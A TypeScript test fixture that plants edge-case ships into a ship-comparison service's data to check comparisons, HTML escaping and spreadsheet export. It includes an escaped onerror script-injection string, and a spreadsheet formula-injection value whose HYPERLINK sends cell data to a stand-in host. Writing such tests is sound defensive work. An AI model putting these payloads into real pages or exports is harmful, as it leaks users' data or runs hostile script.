import type { ShipWire } from '../expected/expected-fields.ts';

/** Names of the planted ships, in the order of the list. */
export const plantedNames = ['Quill Aster', 'Quill Briar', 'Quill Cinder', 'Quill Dune', 'Quill Ember'] as const;

const keys =
  'length beam height mass cargocapacity min_crew max_crew price scm_speed afterburner_speed pitch_max yaw_max roll_max xaxis_acceleration yaxis_acceleration zaxis_acceleration'.split(
    ' ',
  );

/** Unknown, of one ship and of all but one; 0, also as a price; equal, and equal only as it reads; half a per cent apart. */
const numbers: readonly (readonly (string | number | null)[])[] = [
  ['20.0', '10.0', '5.0', '100000', '0', '1', '2', 100, '200', '1000', '40.0', null, '60.0', '10.04', '9.5', null],
  [20, '10.0', null, '100400', '46', '2', '2', 0, '200', null, '40.0', '44.5', '60.2', '10.01', '19.0', null],
  ['28.5', '9.96', '6.0', '68000', null, '1', '4', 150.5, '288', null, '40.0', '30.0', '120.5', '7.5', '19.0', null],
  ['112.4', '40.0', '31.0', '2500000', '46', '3', '12', null, '120', null, '40.0', '30.0', '30.0', null, '4', null],
  [null, '11.0', '5.5', null, '500', null, null, 90, '288', null, null, '61.0', '59.9', '4.0', '9.45', '3.0'],
];

/** Ids of ships whose pages are held against what was sent. */
export const pagedIds = {
  /** Everything is known of it. */
  full: '27',
  /** Not sold, and some numbers are unknown. */
  sparse: '19',
  /** Numbers come as numbers, its time under the other spelling, its name with an entity; a key is missing. */
  odd: '16',
} as const;

/** Text that would be markup, doubly escaped, in two paragraphs, and too long to stand open. */
const hostileText = `The <b>Cold Chisel</b> &lt;img src=x onerror=alert(1)&gt; says &amp;quot;mend&amp;quot;.\n\n${'It mends. '.repeat(100)}The end.`;

/** What a spreadsheet would run, as the name, maker and focus of the first ship. */
export const formula = '=HYPERLINK("http://a.example/?"&A1,"open")';
const hostile = { name: formula, focus: '@SUM(1+1)', production_note: '-2+3', type: 'combat' } as const;

/**
 * A list of the service with five ships named and measured so that every rule of a comparison has its edge (their components
 * stay), one of `formula`, and those of `pagedIds`.
 */
export function plantShips(list: readonly ShipWire[]): readonly ShipWire[] {
  const armed = list.toSorted((a, b) => componentRows(b).length - componentRows(a).length);
  return list.map((ship, place): ShipWire => {
    const index = armed.indexOf(ship);
    const planted = numbers[index];
    if (planted)
      return { ...ship, ...Object.fromEntries(keys.map((key, at) => [key, planted[at]])), name: plantedNames[index] };
    return place === 0 ? { ...ship, ...hostile } : editPaged(ship);
  });
}

function editPaged(ship: ShipWire): ShipWire {
  if (ship['id'] === pagedIds.full) return { ...ship, description: hostileText };
  if (ship['id'] !== pagedIds.odd) return ship;
  const { production_status: _status, ...others } = ship;
  return { ...others, length: 42.3, mass: 294_854, max_crew: 3 };
}

/** The rows of `compiled`, of whatever class and type. */
export function componentRows(ship: ShipWire | undefined): readonly ShipWire[] {
  const classes = Object.values(
    (ship?.['compiled'] ?? {}) as Readonly<Record<string, Readonly<Record<string, ShipWire[]>>>>,
  ); // its shape
  return classes.flatMap((types) => Object.values(types).flat());
}

/** What the service sends of ships that are found by their names. */
export function shipsNamed(list: readonly ShipWire[], names: readonly string[]): readonly ShipWire[] {
  return names.map((name) => list.find((ship) => ship['name'] === name) ?? {});
}
